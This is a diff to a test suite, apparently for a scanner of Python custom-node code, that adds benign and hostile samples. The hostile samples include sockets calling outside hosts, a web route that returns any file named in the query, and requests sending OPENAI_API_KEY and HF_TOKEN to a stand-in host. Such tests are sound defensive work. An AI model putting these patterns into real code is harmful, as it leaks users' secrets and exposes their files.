@@ -270,6 +270,40 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
       },
     ],
     [
+      'sockets that ask for the own address or a free port',
+      {
+        honest: `import socket\ndef address():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(("8.8.8.8", 80))\n    own = s.getsockname()[0]\n    s.close()\n    return own\ndef is_used(port, host="127.0.0.1"):\n    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n        return s.connect_ex((host, port)) == 0\nADDRESS = address()\nUSED = is_used(8188)\n`,
+        hostile: [
+          'import socket\ndef f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(("a.e.example", 80))\nf()\n',
+          'import socket\ndef f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(("8.8.8.8", 80))\n    s.send(b"a")\nf()\n',
+          'import socket\ndef f(host="127.0.0.1"):\n    s = socket.socket()\n    s.connect(("1.2.3.4", 80))\nf()\n',
+          'import socket\ndef f():\n    s = socket.socket()\n    s.connect_ex(("127.0.0.1", 80))\n    return s\nf()\n',
+        ],
+      },
+    ],
+    [
+      'functions that a pool calls with a path',
+      {
+        honest: `import asyncio, folder_paths\nfrom server import PromptServer\ndef digest(path):\n    with open(path, "rb") as file: return hash(file.read())\ndef find(name):\n    try:\n        path = folder_paths.get_full_path("loras", name)\n    except Exception:\n        path = None\n    return path\n@PromptServer.instance.routes.get("/a")\nasync def a(request):\n    path = find(request.query.get("name"))\n    return await asyncio.get_event_loop().run_in_executor(None, digest, path)\n`,
+        hostile: [
+          `import asyncio\nfrom server import PromptServer\ndef digest(path):\n    with open(path, "rb") as file: return file.read()\n@PromptServer.instance.routes.get("/a")\nasync def a(request):\n    return await asyncio.get_event_loop().run_in_executor(None, digest, request.query.get("name"))\n`,
+        ],
+      },
+    ],
+    [
+      'keys of many services',
+      {
+        honest: `import os, requests\ndef key(name, other=None):\n    return os.getenv(name) or other\n${Array.from({ length: 20 }, (_, index) => `key("SERVICE_${index}_API_KEY")\n`).join('')}key("OPENAI_API_KEY")\n${inNode('', 'requests.get("https://cloud.e.example/a", headers={"Authorization": key("CLOUD_API_KEY")})')}`,
+        hostile: [
+          inNode(
+            'import os, requests',
+            'requests.get("https://e.example", headers={"a": os.environ.get("OPENAI_API_KEY")})',
+          ),
+          `import os, requests\ndef key(name):\n    return os.getenv(name)\n${inNode('', 'requests.get("https://e.example/a", headers={"a": key("OPENAI_API_KEY") + key("HF_TOKEN")})')}`,
+        ],
+      },
+    ],
+    [
       'walks through folders',
       {
         honest: inNode(
